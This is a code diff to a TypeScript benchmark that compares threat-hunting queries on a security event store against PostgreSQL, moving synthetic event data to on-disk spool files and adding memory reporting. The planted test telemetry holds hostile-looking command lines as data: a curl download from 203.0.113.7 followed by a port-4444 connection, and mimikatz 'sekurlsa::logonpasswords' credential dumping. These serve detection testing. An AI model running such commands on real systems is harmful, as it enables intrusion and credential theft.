@@ -1,19 +1,22 @@
 // Hunt benchmark: the standard hunt suite on Vigil's embedded store (queries compiled by @vigil/hunt) and on a throw-away
 // PostgreSQL 15 with b-tree and trigram indexes, same data, results cross-checked. Loopback only; removes everything it starts.
 
-import { readdirSync, rmSync, mkdirSync, mkdtempSync, statSync, writeFileSync } from 'node:fs';
+import { closeSync, mkdirSync, mkdtempSync, openSync, readdirSync, readFileSync, rmSync, statSync, writeFileSync, writeSync } from 'node:fs';
+import { open, type FileHandle } from 'node:fs/promises';
 import { tmpdir } from 'node:os';
 import { dirname, join, relative, resolve } from 'node:path';
 import { performance } from 'node:perf_hooks';
 import { fileURLToPath } from 'node:url';
+import { getHeapStatistics } from 'node:v8';
 import pg from 'pg';
 import { compileHunt } from '@vigil/hunt';
 import { checkEvent, type VigilEvent } from '@vigil/schema';
 import { createDuckDbStore, type CompiledSelect, type EventStore } from '@vigil/store';
 import { createCleanupRegistry } from './internal/cleanup.js';
 import { updateBenchmarkDocs } from './internal/docs-section.js';
-import { createAgentEventStream, createRandom, type BenchEvent } from './internal/event-generator.js';
+import { createAgentEventStream, createRandom } from './internal/event-generator.js';
 import { parseOptions } from './internal/options.js';
+import { memoryLine, startProgress } from './internal/progress.js';
 import { pgBatchParams, pgIndexNames, pgInsertQuery, pgSchemaSql } from './internal/pg-events.js';
 import { startTempPostgres } from './internal/postgres.js';
 import { formatInt, machineInfo, markdownTable, percentile, round, textTable } from './internal/report.js';
@@ -55,8 +58,18 @@ const TARGET_P50_MS = 300;
 
 // ---- data ----
 
+/** One `append` batch (and one PostgreSQL insert) in a host's spool file: the body `{"events":[...]}` at `offset`. */
+interface SpooledBatch {
+  offset: number;
+  length: number;
+  events: number;
+}
+
 interface Dataset {
-  hosts: { id: string; events: BenchEvent[] }[];
+  /** Each host's events, in load order, as batch bodies in one spool file per host (so the heap holds none of them). */
+  hosts: { id: string; spool: string; batches: SpooledBatch[] }[];
+  spoolDir: string;
+  spoolBytes: number;
   /** One chain root per host: host id and pid. */
   chainRoots: { hostId: string; pid: number }[];
   exactHash: string;
@@ -85,80 +98,121 @@ function share(total: number, parts: number, i: number): number {
   return Math.floor(total / parts) + (i < total % parts ? 1 : 0);
 }
 
-function generateDataset(): Dataset {
+/**
+ * Generates every host's events and writes them, batch by batch, to spool files under `spoolDir`; the heap holds one
+ * batch and the planted blocks of one host at a time. For a given seed the events are the ones the former in-memory
+ * generator produced (same streams, same random draws in the same order), except `event.id`, which is random in both.
+ * Whatever the suite needs afterwards (per-hash counts for the exact hash and the IOCs, the chain roots) is kept while
+ * streaming.
+ */
+async function generateDataset(spoolDir: string): Promise<Dataset> {
   const startMs = Date.UTC(2026, 10, 1);
   const spanMs = options.days * 86_400_000;
   const hosts: Dataset['hosts'] = [];
   const chainRoots: Dataset['chainRoots'] = [];
-  for (let h = 0; h < hostCount; h++) {
-    const hostId = `00000000-0000-4000-8000-${String(h + 1).padStart(12, '0')}`;
-    const hostName = `hunt-host-${String(h + 1).padStart(3, '0')}.corp.example.com`;
-    const stream = createAgentEventStream(hostId, hostName, options.seed * 1000 + h, startMs);
-    const random = createRandom(options.seed * 7919 + h);
-    const count = share(totalEvents, hostCount, h);
-    const blocks: Record<string, unknown>[][] = [];
+  const hashCounts = new Map<string, number>();
+  let spoolBytes = 0;
+  const progress = startProgress(log, 'data    generated', totalEvents, 'events');
+  try {
+    for (let h = 0; h < hostCount; h++) {
+      const hostId = `00000000-0000-4000-8000-${String(h + 1).padStart(12, '0')}`;
+      const hostName = `hunt-host-${String(h + 1).padStart(3, '0')}.corp.example.com`;
+      const stream = createAgentEventStream(hostId, hostName, options.seed * 1000 + h, startMs);
+      const random = createRandom(options.seed * 7919 + h);
+      const count = share(totalEvents, hostCount, h);
+      const blocks: Record<string, unknown>[][] = [];
 
-    // Process chains of depth CHAIN_DEPTH, every inner node with one extra leaf child, in start order.
-    for (let c = 0; c < share(CHAIN_COUNT, hostCount, h); c++) {
-      const base = CHAIN_PID_BASE + (h * CHAIN_COUNT + c) * 100;
-      const block: Record<string, unknown>[] = [];
-      for (let d = 0; d < CHAIN_DEPTH; d++) {
-        // Entity ids as an agent sets them (host + pid + start), so the tree can be walked by entity id as well as by pid.
-        const entity = (pid: number) => `${hostId}:${pid}`;
-        const parent = d === 0 ? {} : { 'process.parent.entity_id': entity(base + d - 1) };
-        const node = { ...firstOf(stream, 'process'), 'process.pid': base + d, 'process.parent.pid': d === 0 ? 1 : base + d - 1, 'process.entity_id': entity(base + d), ...parent };
-        block.push(node);
-        if (d > 0 && d < CHAIN_DEPTH - 1) {
-          block.push({ ...firstOf(stream, 'process'), 'process.pid': base + 50 + d, 'process.parent.pid': base + d - 1, 'process.entity_id': entity(base + 50 + d), ...parent });
+      // Process chains of depth CHAIN_DEPTH, every inner node with one extra leaf child, in start order.
+      for (let c = 0; c < share(CHAIN_COUNT, hostCount, h); c++) {
+        const base = CHAIN_PID_BASE + (h * CHAIN_COUNT + c) * 100;
+        const block: Record<string, unknown>[] = [];
+        for (let d = 0; d < CHAIN_DEPTH; d++) {
+          // Entity ids as an agent sets them (host + pid + start), so the tree can be walked by entity id as well as by pid.
+          const entity = (pid: number) => `${hostId}:${pid}`;
+          const parent = d === 0 ? {} : { 'process.parent.entity_id': entity(base + d - 1) };
+          const node = { ...firstOf(stream, 'process'), 'process.pid': base + d, 'process.parent.pid': d === 0 ? 1 : base + d - 1, 'process.entity_id': entity(base + d), ...parent };
+          block.push(node);
+          if (d > 0 && d < CHAIN_DEPTH - 1) {
+            block.push({ ...firstOf(stream, 'process'), 'process.pid': base + 50 + d, 'process.parent.pid': base + d - 1, 'process.entity_id': entity(base + 50 + d), ...parent });
+          }
+        }
+        if (c === 0) chainRoots.push({ hostId, pid: base });
+        blocks.push(block);
+      }
+      // curl followed seconds later by a connection to port 4444 by the same host.
+      for (let s = 0; s < share(SEQUENCE_PAIRS, hostCount, h); s++) {
+        const curl = { ...firstOf(stream, 'process'), 'process.executable': '/usr/bin/curl', 'process.name': 'curl', 'process.args': ['curl', '-sO', 'http://203.0.113.7/x'], 'process.command_line': 'curl -sO http://203.0.113.7/x' };
+        const connect: Record<string, unknown> = { ...firstOf(stream, 'network'), 'process.executable': '/tmp/x', 'process.name': 'x', 'process.args': ['/tmp/x'], 'process.command_line': '/tmp/x', 'destination.port': 4444, 'destination.ip': '203.0.113.7', 'network.type': 'ipv4' };
+        if (typeof connect['source.ip'] === 'string' && connect['source.ip'].includes(':')) connect['source.ip'] = '10.0.1.9';
+        blocks.push([curl, connect]);
+      }
+      for (let m = 0; m < share(MIMIKATZ_EVENTS, hostCount, h); m++) {
+        const args = ['/tmp/mimikatz', 'privilege::debug', 'sekurlsa::logonpasswords', 'exit'];
+        blocks.push([{ ...firstOf(stream, 'process'), 'process.executable': '/tmp/mimikatz', 'process.name': 'mimikatz', 'process.args': args, 'process.command_line': args.join(' ') }]);
+      }
+      for (const block of blocks) {
+        for (const event of block) {
+          const check = checkEvent(event, 'planted');
+          if (check.problems.length) throw new Error(`planted event fails the schema: ${JSON.stringify(check.problems)}`);
         }
       }
-      if (c === 0) chainRoots.push({ hostId, pid: base });
-      blocks.push(block);
-    }
-    // curl followed seconds later by a connection to port 4444 by the same host.
-    for (let s = 0; s < share(SEQUENCE_PAIRS, hostCount, h); s++) {
-      const curl = { ...firstOf(stream, 'process'), 'process.executable': '/usr/bin/curl', 'process.name': 'curl', 'process.args': ['curl', '-sO', 'http://203.0.113.7/x'], 'process.command_line': 'curl -sO http://203.0.113.7/x' };
-      const connect: Record<string, unknown> = { ...firstOf(stream, 'network'), 'process.executable': '/tmp/x', 'process.name': 'x', 'process.args': ['/tmp/x'], 'process.command_line': '/tmp/x', 'destination.port': 4444, 'destination.ip': '203.0.113.7', 'network.type': 'ipv4' };
-      if (typeof connect['source.ip'] === 'string' && connect['source.ip'].includes(':')) connect['source.ip'] = '10.0.1.9';
-      blocks.push([curl, connect]);
-    }
-    for (let m = 0; m < share(MIMIKATZ_EVENTS, hostCount, h); m++) {
-      const args = ['/tmp/mimikatz', 'privilege::debug', 'sekurlsa::logonpasswords', 'exit'];
-      blocks.push([{ ...firstOf(stream, 'process'), 'process.executable': '/tmp/mimikatz', 'process.name': 'mimikatz', 'process.args': args, 'process.command_line': args.join(' ') }]);
-    }
-    const planted = blocks.reduce((n, b) => n + b.length, 0);
-    const background = stream.next(count - planted) as unknown as Record<string, unknown>[];
-    // Blocks go in at random positions, each kept contiguous so its events stay seconds apart and in order.
-    const positions = blocks.map(() => Math.floor(random() * background.length)).sort((a, b) => a - b);
-    const events: Record<string, unknown>[] = [];
-    let next = 0;
-    for (let b = 0; b < blocks.length; b++) {
-      while (next < positions[b]!) events.push(background[next++]!);
-      events.push(...blocks[b]!);
-    }
-    while (next < background.length) events.push(background[next++]!);
-    const step = spanMs / events.length;
-    for (let i = 0; i < events.length; i++) {
-      const event = events[i]!;
-      event['event.sequence'] = i + 1;
-      event['@timestamp'] = new Date(startMs + Math.floor(i * step + random() * step * 0.5)).toISOString();
-    }
-    for (const block of blocks) {
-      for (const event of block) {
-        const check = checkEvent(event, 'planted');
-        if (check.problems.length) throw new Error(`planted event fails the schema: ${JSON.stringify(check.problems)}`);
+      const planted = blocks.reduce((n, b) => n + b.length, 0);
+      const backgroundCount = count - planted;
+      // Blocks go in at random positions of the background, each kept contiguous so its events stay seconds apart and
+      // in order: block b goes before background event positions[b] (the b-th smallest draw).
+      const positions = blocks.map(() => Math.floor(random() * backgroundCount)).sort((a, b) => a - b);
+      const step = spanMs / count;
+
+      const spool = join(spoolDir, `host-${h + 1}.jsonl`);
+      const fd = openSync(spool, 'w');
+      const batches: SpooledBatch[] = [];
+      let offset = 0;
+      let written = 0;
+      let pending: Record<string, unknown>[] = [];
+      const flush = () => {
+        if (!pending.length) return;
+        const body = Buffer.from(JSON.stringify({ events: pending }));
+        writeSync(fd, body, 0, body.length, offset);
+        batches.push({ offset, length: body.length, events: pending.length });
+        offset += body.length;
+        progress.add(pending.length);
+        pending = [];
+      };
+      const emit = (event: Record<string, unknown>) => {
+        event['event.sequence'] = written + 1;
+        event['@timestamp'] = new Date(startMs + Math.floor(written * step + random() * step * 0.5)).toISOString();
+        written++;
+        const hash = event['process.hash.sha256'];
+        if (typeof hash === 'string') hashCounts.set(hash, (hashCounts.get(hash) ?? 0) + 1);
+        pending.push(event);
+        if (pending.length === BATCH) flush();
+      };
+      try {
+        let produced = 0;
+        let b = 0;
+        while (produced < backgroundCount) {
+          const chunk = stream.next(Math.min(BATCH, backgroundCount - produced)) as unknown as Record<string, unknown>[];
+          for (const event of chunk) {
+            while (b < blocks.length && positions[b] === produced) for (const planted of blocks[b++]!) emit(planted);
+            emit(event);
+            produced++;
+          }
+          // Lets the progress timer run; nothing else is scheduled while the data is generated.
+          await new Promise((resolve) => setImmediate(resolve));
+        }
+        while (b < blocks.length) for (const planted of blocks[b++]!) emit(planted);
+        flush();
+      } finally {
+        closeSync(fd);
       }
+      if (written !== count) throw new Error(`host ${hostId}: generated ${written} events, expected ${count}`);
+      spoolBytes += offset;
+      hosts.push({ id: hostId, spool, batches });
     }
-    hosts.push({ id: hostId, events: events as unknown as BenchEvent[] });
+  } finally {
+    progress.stop();
   }
 
-  const hashCounts = new Map<string, number>();
-  for (const host of hosts) {
-    for (const event of host.events) {
-      const hash = (event as unknown as Record<string, unknown>)['process.hash.sha256'];
-      if (typeof hash === 'string') hashCounts.set(hash, (hashCounts.get(hash) ?? 0) + 1);
-    }
-  }
   const byCount = [...hashCounts].sort((a, b) => Math.abs(a[1] - 100) - Math.abs(b[1] - 100) || (a[0] < b[0] ? -1 : 1));
   const [exactHash, exactHashCount] = byCount[0]!;
   const present = [...hashCounts.keys()].sort();
@@ -170,7 +224,34 @@ function generateDataset(): Dataset {
     const hash = hex64(random);
     if (!hashCounts.has(hash)) iocs.push(hash);
   }
-  return { hosts, chainRoots, exactHash, exactHashCount, iocs, iocsPresent: wantPresent, startMs, endMs: startMs + spanMs };
+  return { hosts, spoolDir, spoolBytes, chainRoots, exactHash, exactHashCount, iocs, iocsPresent: wantPresent, startMs, endMs: startMs + spanMs };
+}
+
+/** Reads one spooled batch body. */
+async function readBatch(file: FileHandle, batch: SpooledBatch): Promise<Buffer> {
+  const body = Buffer.allocUnsafe(batch.length);
+  const { bytesRead } = await file.read(body, 0, batch.length, batch.offset);
+  if (bytesRead !== batch.length) throw new Error(`spool: read ${bytesRead} of ${batch.length} bytes at ${batch.offset}`);
+  return body;
+}
+
+/**
+ * Calls `load` with each of a host's batch bodies in order, reading the next body from the spool while `load` runs, so
+ * at most two bodies per host are in memory.
+ */
+async function forEachBatch(host: Dataset['hosts'][number], load: (body: Buffer, batch: SpooledBatch) => Promise<void>): Promise<void> {
+  const file = await open(host.spool, 'r');
+  let next = host.batches.length ? readBatch(file, host.batches[0]!) : undefined;
+  try {
+    for (let i = 0; i < host.batches.length; i++) {
+      const body = await next!;
+      next = i + 1 < host.batches.length ? readBatch(file, host.batches[i + 1]!) : undefined;
+      await load(body, host.batches[i]!);
+    }
+  } finally {
+    await next?.catch(() => undefined);
+    await file.close();
+  }
 }
 
 // ---- queries ----
@@ -371,6 +452,24 @@ const huntIndexSql: readonly [name: string, sql: string][] = [
   ['events_sha256_host_ts (sha256, host_id, ts)', 'CREATE INDEX events_sha256_host_ts ON events (sha256, host_id, ts)'],
 ];
 
+/** Sum of the proportional set sizes (Pss) of `rootPid` and its direct children (a PostgreSQL postmaster and backends). */
+function processTreePssBytes(rootPid: number): number {
+  let total = 0;
+  for (const entry of readdirSync('/proc')) {
+    if (!/^\d+$/.test(entry)) continue;
+    try {
+      const stat = readFileSync(`/proc/${entry}/stat`, 'utf8');
+      const ppid = Number(stat.slice(stat.lastIndexOf(')') + 2).split(' ')[1]);
+      if (Number(entry) !== rootPid && ppid !== rootPid) continue;
+      const kb = /^Pss:\s*(\d+) kB$/m.exec(readFileSync(`/proc/${entry}/smaps_rollup`, 'utf8'))?.[1];
+      total += Number(kb ?? 0) * 1024;
+    } catch {
+      // The process ended between listing and reading.
+    }
+  }
+  return total;
+}
+
 function directoryBytes(dir: string): number {
   let total = 0;
   for (const entry of readdirSync(dir, { withFileTypes: true })) {
@@ -409,11 +508,19 @@ interface QueryResult {
 async function main(): Promise<void> {
   const machine = machineInfo();
   log(`hunt benchmark: ${formatInt(totalEvents)} events over ${hostCount} hosts and ${options.days} days; ${machine.cores} × ${machine.cpu_model}, ${machine.memory_gib} GiB`);
+  const spoolDir = mkdtempSync(join(tmpdir(), 'vigil-bench-hunt-spool-'));
+  cleanup.add('remove spooled events', () => rmSync(spoolDir, { recursive: true, force: true }));
   const genStart = performance.now();
-  const data = generateDataset();
-  log(`data    generated in ${((performance.now() - genStart) / 1000).toFixed(1)} s; exact hash occurs ${data.exactHashCount} times; ${data.iocsPresent} of 1,000 IOCs present`);
+  const data = await generateDataset(spoolDir);
+  const generateS = (performance.now() - genStart) / 1000;
+  log(
+    `data    generated in ${generateS.toFixed(1)} s (${(data.spoolBytes / 1024 ** 3).toFixed(2)} GiB spooled to ${spoolDir}); ` +
+      `exact hash occurs ${data.exactHashCount} times; ${data.iocsPresent} of 1,000 IOCs present`,
+  );
 
-  // Vigil: the real ingest path, append in batches of BATCH per host, hosts concurrently.
+  // Vigil: the real ingest path, append in batches of BATCH per host, hosts concurrently. The batches are read from the
+  // spool and parsed here; the parse time is measured and taken out of Vigil's load time (the events used to be built in
+  // memory before the clock started).
   const work = mkdtempSync(join(tmpdir(), 'vigil-bench-hunt-'));
   cleanup.add('remove vigil data', () => rmSync(work, { recursive: true, force: true }));
   // The row cache is off by default in the server (VIGIL_STORE_ROW_CACHE); the suite runs with it on.
@@ -421,31 +528,55 @@ async function main(): Promise<void> {
   await store.open();
   let storeOpen = true;
   cleanup.add('close vigil store', async () => void (storeOpen && (await store.close())));
+  let vigilParseMs = 0;
+  const vigilProgress = startProgress(log, 'vigil   loaded', totalEvents, 'events');
   const vigilStart = performance.now();
-  await Promise.all(
-    data.hosts.map(async (host) => {
-      for (let i = 0; i < host.events.length; i += BATCH) {
-        const batch = host.events.slice(i, i + BATCH) as unknown as VigilEvent[];
-        const ack = await store.append(host.id, batch);
-        if (ack.accepted !== batch.length) throw new Error(`vigil accepted ${ack.accepted} of ${batch.length} events of ${host.id}`);
-      }
-    }),
+  try {
+    await Promise.all(
+      data.hosts.map((host) =>
+        forEachBatch(host, async (body) => {
+          const parseStart = performance.now();
+          const batch = (JSON.parse(body.toString('utf8')) as { events: VigilEvent[] }).events;
+          vigilParseMs += performance.now() - parseStart;
+          const ack = await store.append(host.id, batch);
+          if (ack.accepted !== batch.length) throw new Error(`vigil accepted ${ack.accepted} of ${batch.length} events of ${host.id}`);
+          vigilProgress.add(batch.length);
+        }),
+      ),
+    );
+  } finally {
+    vigilProgress.stop();
+  }
+  const vigilLoadWallS = (performance.now() - vigilStart) / 1000;
+  const vigilLoadS = vigilLoadWallS - vigilParseMs / 1000;
+  log(
+    `vigil   acknowledged ${formatInt(totalEvents)} events in ${vigilLoadS.toFixed(1)} s (${formatInt(totalEvents / vigilLoadS)} events/s; ` +
+      `${vigilLoadWallS.toFixed(1)} s wall, of which ${(vigilParseMs / 1000).toFixed(1)} s parsing the spooled batches)`,
   );
-  const vigilLoadS = (performance.now() - vigilStart) / 1000;
+  // Appends are acknowledged once journaled; a count waits until DuckDB holds every acknowledged event.
   const vigilStored = (await store.countEvents({}, 'none')).reduce((n, r) => n + r.count, 0);
   if (vigilStored !== totalEvents) throw new Error(`VERIFICATION FAILED: vigil stores ${vigilStored} events, expected ${totalEvents}`);
-  log(`vigil   loaded ${formatInt(totalEvents)} events in ${vigilLoadS.toFixed(1)} s (${formatInt(totalEvents / vigilLoadS)} events/s)`);
+  const vigilStoredS = (performance.now() - vigilStart) / 1000;
+  log(`vigil   all events in DuckDB ${vigilStoredS.toFixed(1)} s after the first append (${(vigilStoredS - vigilLoadWallS).toFixed(1)} s after the last acknowledgement)`);
   // The index reads loaded rows back in the background; a search with an indexed form waits until it has caught up.
   const catchUpStart = performance.now();
   // The row store (copies of the rows for event lists and sequences) catches up beside it; both are done before timing.
-  const indexBehind = () => {
-    const stats = store.stats?.() ?? {};
-    return (stats['index_pending_events'] ?? 0) > 0 || (stats['row_store_rows'] ?? totalEvents) < totalEvents;
-  };
-  while (indexBehind()) await new Promise((resolve) => setTimeout(resolve, 100));
+  const storeStat = (key: string) => (store.stats?.() ?? {})[key];
+  const indexBehind = () => (storeStat('index_pending_events') ?? 0) > 0 || (storeStat('row_store_rows') ?? totalEvents) < totalEvents;
+  let lastCatchUpLog = performance.now();
+  while (indexBehind()) {
+    await new Promise((resolve) => setTimeout(resolve, 100));
+    if (performance.now() - lastCatchUpLog >= 10_000) {
+      lastCatchUpLog = performance.now();
+      log(
+        `vigil   catching up: index pending ${formatInt(storeStat('index_pending_events') ?? 0)} events, row store ${formatInt(storeStat('row_store_rows') ?? 0)} of ` +
+          `${formatInt(totalEvents)} rows, index dropped for heap: ${storeStat('index_dropped_for_heap') ?? 0}; ${memoryLine()}`,
+      );
+    }
+  }
   await store.search(compile('process where process.name == "curl" | stats count()')[0]!);
   const vigilIndexS = (performance.now() - catchUpStart) / 1000;
-  log(`vigil   secondary index and row store caught up ${vigilIndexS.toFixed(1)} s after the load`);
+  log(`vigil   secondary index and row store caught up ${vigilIndexS.toFixed(1)} s after the load; ${memoryLine()}`);
   const indexStats = Object.fromEntries(Object.entries(store.stats?.() ?? {}).filter(([key]) => key.startsWith('index_')));
   log(`vigil   secondary index: ${JSON.stringify(indexStats)}`);
 
@@ -453,6 +584,15 @@ async function main(): Promise<void> {
   const server = await startTempPostgres(options['pg-port'], postgresSettings);
   cleanup.add('stop postgres', () => server.stop());
   log(`postgres pid ${server.pid} on 127.0.0.1:${server.port}`);
+  let pgPeakPssBytes = 0;
+  const pgMemory = () => {
+    const pss = processTreePssBytes(server.pid);
+    pgPeakPssBytes = Math.max(pgPeakPssBytes, pss);
+    return `postgres processes PSS ${(pss / 1024 ** 3).toFixed(2)} GiB`;
+  };
+  const pgMemoryTimer = setInterval(pgMemory, 5_000);
+  pgMemoryTimer.unref();
+  cleanup.add('stop postgres memory sampling', () => clearInterval(pgMemoryTimer));
   const loaders: pg.Client[] = [];
   for (let i = 0; i < 4; i++) {
     const client = new pg.Client({ host: server.host, port: server.port, user: server.user, database: 'postgres' });
@@ -462,26 +602,46 @@ async function main(): Promise<void> {
   cleanup.add('close postgres clients', async () => void (await Promise.allSettled(loaders.map((c) => c.end()))));
   const db = loaders[0]!;
   for (const sql of pgSchemaSql) await db.query(sql);
-  const queues = loaders.map(() => [] as ReturnType<typeof pgBatchParams>[]);
-  data.hosts.forEach((host, h) => {
-    for (let i = 0; i < host.events.length; i += BATCH) {
-      queues[h % loaders.length]!.push(pgBatchParams('json', Buffer.from(JSON.stringify({ events: host.events.slice(i, i + BATCH) }))));
-    }
-  });
+  // Loader i takes hosts i, i + 4, ... one after the other, each host's batches in order (the bodies are the spooled
+  // `{"events":[...]}` texts, sent as they are).
+  const pgProgress = startProgress(log, 'postgres loaded', totalEvents, 'events', 10_000, pgMemory);
   const pgStart = performance.now();
-  await Promise.all(loaders.map(async (client, i) => { for (const params of queues[i]!) await client.query(pgInsertQuery('json', params)); }));
+  try {
+    await Promise.all(
+      loaders.map(async (client, i) => {
+        for (let h = i; h < data.hosts.length; h += loaders.length) {
+          await forEachBatch(data.hosts[h]!, async (body, batch) => {
+            await client.query(pgInsertQuery('json', pgBatchParams('json', body)));
+            pgProgress.add(batch.events);
+          });
+        }
+      }),
+    );
+  } finally {
+    pgProgress.stop();
+  }
   const pgLoadS = (performance.now() - pgStart) / 1000;
-  queues.length = 0;
-  // Both engines hold their copies now; the generated events leave the heap so the timed queries do not pay for them in GC.
-  for (const host of data.hosts) host.events = [];
+  // Both engines hold their copies now; the spool leaves the disk.
+  rmSync(spoolDir, { recursive: true, force: true });
   const pgStored = Number((await db.query<{ n: string }>('SELECT count(*) AS n FROM events')).rows[0]!.n);
   if (pgStored !== totalEvents) throw new Error(`VERIFICATION FAILED: PostgreSQL stores ${pgStored} rows, expected ${totalEvents}`);
   log(`postgres loaded ${formatInt(totalEvents)} rows in ${pgLoadS.toFixed(1)} s (${formatInt(totalEvents / pgLoadS)} events/s)`);
   const indexStart = performance.now();
   await db.query('CREATE EXTENSION IF NOT EXISTS pg_trgm');
-  await Promise.all(huntIndexSql.map(([, sql], i) => loaders[i % loaders.length]!.query(sql)));
+  // Seconds from sending the first index to each index being done (each connection builds its indexes one after the other).
+  const pgIndexDoneAtS: Record<string, number> = {};
+  await Promise.all(
+    huntIndexSql.map(async ([name, sql], i) => {
+      await loaders[i % loaders.length]!.query(sql);
+      pgIndexDoneAtS[name] = round((performance.now() - indexStart) / 1000, 1);
+      log(`postgres index ${name} done ${pgIndexDoneAtS[name]} s after the first was sent; ${pgMemory()}`);
+    }),
+  );
+  const vacuumStart = performance.now();
   await db.query('VACUUM (ANALYZE) events');
+  const pgVacuumS = (performance.now() - vacuumStart) / 1000;
   const pgIndexS = (performance.now() - indexStart) / 1000;
+  log(`postgres VACUUM (ANALYZE) in ${pgVacuumS.toFixed(1)} s`);
   log(`postgres hunt indexes + VACUUM ANALYZE in ${pgIndexS.toFixed(1)} s`);
   const pgBytes = Number((await db.query<{ n: string }>("SELECT pg_total_relation_size('events') AS n")).rows[0]!.n);
 
@@ -504,6 +664,12 @@ async function main(): Promise<void> {
     log(`query   ${c.name}: vigil p50 ${percentile(vigil.sortedMs, 50).toFixed(1)} ms, postgres p50 ${percentile(postgres.sortedMs, 50).toFixed(1)} ms; ${c.describe(vigilResult)}${match ? '' : ` (postgres: ${c.describe(postgresResult)})`}`);
   }
 
+  const indexStatsAfterSuite = Object.fromEntries(Object.entries(store.stats?.() ?? {}).filter(([key]) => key.startsWith('index_')));
+  log(`vigil   after the suite: index dropped for heap: ${indexStatsAfterSuite['index_dropped_for_heap'] ?? 0}; ${memoryLine()}`);
+  clearInterval(pgMemoryTimer);
+  pgMemory();
+  const benchPeakRssBytes = process.resourceUsage().maxRSS * 1024;
+  log(`memory  peak RSS of this process (Vigil's store in-process) ${(benchPeakRssBytes / 1024 ** 3).toFixed(2)} GiB; peak PSS of PostgreSQL's processes ${(pgPeakPssBytes / 1024 ** 3).toFixed(2)} GiB (sampled every 5 s from its start)`);
   await store.close();
   storeOpen = false;
   const vigilBytes = directoryBytes(work);
@@ -547,7 +713,22 @@ async function main(): Promise<void> {
     runs_per_query: runs,
     vigil_load_events_per_s: Math.round(vigilRate),
     postgres_load_events_per_s: Math.round(pgRate),
+    generate_s: round(generateS, 1),
+    spool_bytes: data.spoolBytes,
+    vigil_load_s: round(vigilLoadS, 1),
+    vigil_load_wall_s: round(vigilLoadWallS, 1),
+    vigil_spool_parse_s: round(vigilParseMs / 1000, 1),
+    vigil_all_stored_after_s: round(vigilStoredS, 1),
+    postgres_load_s: round(pgLoadS, 1),
     postgres_index_build_s: round(pgIndexS, 1),
+    postgres_index_done_at_s: pgIndexDoneAtS,
+    postgres_vacuum_analyze_s: round(pgVacuumS, 1),
+    memory: {
+      bench_process_heap_limit_bytes: getHeapStatistics().heap_size_limit,
+      bench_process_peak_rss_bytes: benchPeakRssBytes,
+      postgres_peak_pss_bytes: pgPeakPssBytes,
+      vigil_index_after_suite: indexStatsAfterSuite,
+    },
     vigil_stored_bytes: vigilBytes,
     vigil_index: indexStats,
     vigil_index_catch_up_s: round(vigilIndexS, 1),
@@ -590,8 +771,10 @@ async function main(): Promise<void> {
         '',
         `${formatInt(totalEvents)} generated Linux events (~70% process start, ~20% network connect, ~10% file create) from ${hostCount} hosts over`,
         `${options.days} days, with planted activity: ${CHAIN_COUNT} process chains of depth ${CHAIN_DEPTH}, ${SEQUENCE_PAIRS} curl-then-port-4444 pairs and`,
-        `${MIMIKATZ_EVENTS} mimikatz runs. Vigil loads them in-process through the store's \`append\` (batches of ${BATCH} per host, hosts`,
-        'concurrently, durable acknowledgement) and answers the queries users run: each hunting-language query goes through `compileHunt` and',
+        `${MIMIKATZ_EVENTS} mimikatz runs. The events are generated host by host into spool files (batch bodies; the benchmark's heap holds`,
+        'one batch per host), then read back for each engine. Vigil loads them in-process through the store\'s `append` (batches of',
+        `${BATCH} per host, hosts concurrently, durable acknowledgement; the time spent parsing the spooled batches is not counted) and`,
+        'answers the queries users run: each hunting-language query goes through `compileHunt` and',
         "`EventStore.search` with the compiled query's indexed form, so the store's secondary indexes (docs/hunting.md; built in the background",
         'beside the load, the time they need after it is reported below) answer where they can: the substring and fuzzy counts, the hourly timechart,',
         "the top 20 process names (per-value row counts) and the IOC sweep's per-indicator host counts and first-seen times come from the index",
